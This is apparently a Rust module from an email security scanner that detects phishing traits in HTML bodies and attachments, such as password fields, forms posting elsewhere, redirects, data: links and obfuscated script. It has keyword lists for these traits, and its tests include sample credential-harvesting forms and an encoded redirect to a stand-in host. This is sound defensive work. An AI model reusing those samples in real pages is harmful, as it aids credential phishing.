//! What an HTML page in a message would do if it were opened: ask for a password, post a
//! form to another site, send the reader somewhere else by script or meta refresh, or carry a
//! whole page in a `data:` link. HTML attachments doing these are how phishing gets past link
//! scanners (the landing page travels with the mail); in a message body a password field is
//! never legitimate. Only the first [`MAX_SCAN`] bytes of each document are read.

use super::links::{attribute, host_of};

/// Bytes of one document that are looked at.
pub const MAX_SCAN: usize = 1 << 20;

/// One behaviour found in a document.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PageTrait {
    pub part: u32,
    pub kind: TraitKind,
    /// Byte range in the document.
    pub range: (u32, u32),
    /// The document is an attachment (not the message body).
    pub attachment: bool,
    /// What was found (a host, a snippet).
    pub detail: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TraitKind {
    /// `<input type="password">`.
    PasswordInput,
    /// `<form action="https://other.host/…">`.
    FormElsewhere,
    /// `window.location = …`, `location.replace(…)` and the like.
    ScriptRedirect,
    /// `atob(…)`, `unescape(…)`, `eval(…)`, `String.fromCharCode`: script hiding what it does.
    ObfuscatedScript,
    /// `<meta http-equiv="refresh" content="0; url=…">`.
    MetaRefresh,
    /// A link or frame whose target is a `data:` document.
    DataDocument,
    /// A link whose target is `javascript:`.
    JavascriptLink,
}

impl TraitKind {
    pub fn as_str(self) -> &'static str {
        match self {
            TraitKind::PasswordInput => "password field",
            TraitKind::FormElsewhere => "form posting to another site",
            TraitKind::ScriptRedirect => "script redirect",
            TraitKind::ObfuscatedScript => "obfuscated script",
            TraitKind::MetaRefresh => "meta refresh redirect",
            TraitKind::DataDocument => "data: document link",
            TraitKind::JavascriptLink => "javascript: link",
        }
    }
}

const REDIRECTS: &[&str] = &[
    "window.location",
    "document.location",
    "top.location",
    "self.location",
    "location.href",
    "location.replace(",
    "location.assign(",
    "window.open(",
];
const OBFUSCATION: &[&str] = &[
    "atob(",
    "unescape(",
    "eval(",
    "string.fromcharcode",
    "\\x68\\x74\\x74\\x70",
];

/// The behaviours of one HTML document (`part` is its MIME part).
pub fn scan(part: u32, html: &str, attachment: bool) -> Vec<PageTrait> {
    let mut cut = html.len().min(MAX_SCAN);
    while !html.is_char_boundary(cut) {
        cut -= 1;
    }
    let html = &html[..cut];
    let lower = html.to_ascii_lowercase();
    let mut out = Vec::new();
    let mut push = |kind, at: usize, len: usize, detail: String| {
        if !out.iter().any(|t: &PageTrait| t.kind == kind) {
            out.push(PageTrait {
                part,
                kind,
                range: (at as u32, (at + len) as u32),
                attachment,
                detail,
            });
        }
    };
    for (at, tag) in tags(html, &lower) {
        let name = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect::<String>()
            .to_ascii_lowercase();
        match name.as_str() {
            "input"
                if attribute(tag, "type")
                    .is_some_and(|t| t.trim().eq_ignore_ascii_case("password")) =>
            {
                push(TraitKind::PasswordInput, at, tag.len() + 2, String::new());
            }
            "form" => {
                if let Some(action) = attribute(tag, "action") {
                    let host = host_of(action.trim());
                    if !host.is_empty() {
                        push(TraitKind::FormElsewhere, at, tag.len() + 2, host);
                    }
                }
            }
            "meta"
                if attribute(tag, "http-equiv")
                    .is_some_and(|v| v.eq_ignore_ascii_case("refresh")) =>
            {
                let target = attribute(tag, "content")
                    .and_then(|c| {
                        let l = c.to_ascii_lowercase();
                        l.find("url=").map(|i| c[i + 4..].trim().to_string())
                    })
                    .unwrap_or_default();
                push(TraitKind::MetaRefresh, at, tag.len() + 2, host_of(&target));
            }
            "a" | "iframe" | "frame" | "object" | "embed" | "area" => {
                for attr in ["href", "src", "data"] {
                    let Some(v) = attribute(tag, attr) else {
                        continue;
                    };
                    let v = v.trim_start().to_ascii_lowercase();
                    if v.starts_with("data:text/html")
                        || v.starts_with("data:application/")
                        || v.starts_with("data:image/svg")
                    {
                        push(
                            TraitKind::DataDocument,
                            at,
                            tag.len() + 2,
                            v.chars().take(40).collect(),
                        );
                    } else if v.starts_with("javascript:") && v.len() > "javascript:".len() + 8 {
                        push(
                            TraitKind::JavascriptLink,
                            at,
                            tag.len() + 2,
                            v.chars().take(60).collect(),
                        );
                    }
                }
            }
            _ => {}
        }
    }
    // Scripts: what they do, wherever they are (inline handlers included).
    if let Some(first_script) = lower.find("<script").or_else(|| lower.find("onload=")) {
        let code = &lower[first_script..];
        if let Some((i, pat)) = REDIRECTS
            .iter()
            .filter_map(|p| code.find(p).map(|i| (i, *p)))
            .min()
        {
            push(
                TraitKind::ScriptRedirect,
                first_script + i,
                pat.len(),
                pat.to_string(),
            );
        }
        if let Some((i, pat)) = OBFUSCATION
            .iter()
            .filter_map(|p| code.find(p).map(|i| (i, *p)))
            .min()
        {
            push(
                TraitKind::ObfuscatedScript,
                first_script + i,
                pat.len(),
                pat.to_string(),
            );
        }
    }
    out
}

/// Every tag's inside (`<…>` without the brackets) with its offset, comments skipped.
fn tags<'h>(html: &'h str, lower: &str) -> Vec<(usize, &'h str)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(lt) = html[from..].find('<').map(|i| from + i) {
        if lower[lt..].starts_with("<!--") {
            from = lower[lt..].find("-->").map_or(html.len(), |e| lt + e + 3);
            continue;
        }
        let Some(gt) = html[lt..].find('>').map(|i| lt + i) else {
            break;
        };
        out.push((lt, &html[lt + 1..gt]));
        from = gt + 1;
        if out.len() > 100_000 {
            break;
        }
    }
    out
}

/// Whether an attachment is an HTML document (by type, name or content).
pub fn is_html_attachment(declared_type: &str, names: &[String], content: &[u8]) -> bool {
    if declared_type == "text/html" || declared_type == "application/xhtml+xml" {
        return true;
    }
    if names.iter().any(|n| {
        [
            ".htm", ".html", ".shtml", ".xhtml", ".svg", ".mht", ".mhtml",
        ]
        .iter()
        .any(|e| n.ends_with(e))
    }) {
        return true;
    }
    let head = &content[..content.len().min(1024)];
    let head = String::from_utf8_lossy(head).to_ascii_lowercase();
    let head = head.trim_start_matches('\u{feff}').trim_start();
    head.starts_with("<!doctype html") || head.starts_with("<html") || head.starts_with("<script")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(html: &str) -> Vec<TraitKind> {
        scan(1, html, true).into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn a_credential_page_is_described() {
        let page = r#"<html><body><form method="post" action="https://collect.web.app/p.php">
            <input type="email" name="u"><INPUT TYPE='Password' name="p"></form></body></html>"#;
        let t = scan(3, page, true);
        let k: Vec<TraitKind> = t.iter().map(|t| t.kind).collect();
        assert_eq!(k, [TraitKind::FormElsewhere, TraitKind::PasswordInput]);
        assert_eq!(t[0].detail, "collect.web.app");
        assert_eq!(t[0].part, 3);
        assert!(page[t[1].range.0 as usize..].starts_with("<INPUT"));
    }

    #[test]
    fn redirects_by_script_meta_and_data_links() {
        assert_eq!(
            kinds("<script>var u=atob('aHR0cHM6Ly9ldmls');window.location.href=u;</script>"),
            [TraitKind::ScriptRedirect, TraitKind::ObfuscatedScript]
        );
        assert_eq!(
            kinds(r#"<meta http-equiv="Refresh" content="0; URL=https://evil.example/x">"#),
            [TraitKind::MetaRefresh]
        );
        let t = scan(
            1,
            r#"<a href="data:text/html;base64,PGgxPg==">open</a>"#,
            false,
        );
        assert_eq!(t[0].kind, TraitKind::DataDocument);
        assert!(!t[0].attachment);
        assert_eq!(
            kinds(r#"<a href="javascript:document.location='https://x.example'">x</a>"#),
            [TraitKind::JavascriptLink]
        );
    }

    #[test]
    fn ordinary_mail_html_has_no_traits() {
        let newsletter = r#"<html><body><!-- <input type=password> --><p>Hello</p>
            <a href="https://shop.example/deals">Deals</a><img src="https://shop.example/p.png">
            <form action="/search"><input type="text" name="q"></form></body></html>"#;
        assert!(kinds(newsletter).is_empty(), "{:?}", kinds(newsletter));
        assert!(kinds("").is_empty());
        assert!(kinds("<<<>>><a href=").is_empty());
    }

    #[test]
    fn html_attachments_are_known_by_type_name_or_content() {
        assert!(is_html_attachment("text/html", &[], b""));
        assert!(is_html_attachment(
            "application/octet-stream",
            &["invoice.shtml".into()],
            b""
        ));
        assert!(is_html_attachment(
            "application/octet-stream",
            &[],
            b"  <!DOCTYPE html><p>"
        ));
        assert!(!is_html_attachment(
            "application/pdf",
            &["a.pdf".into()],
            b"%PDF-1.4"
        ));
    }
}
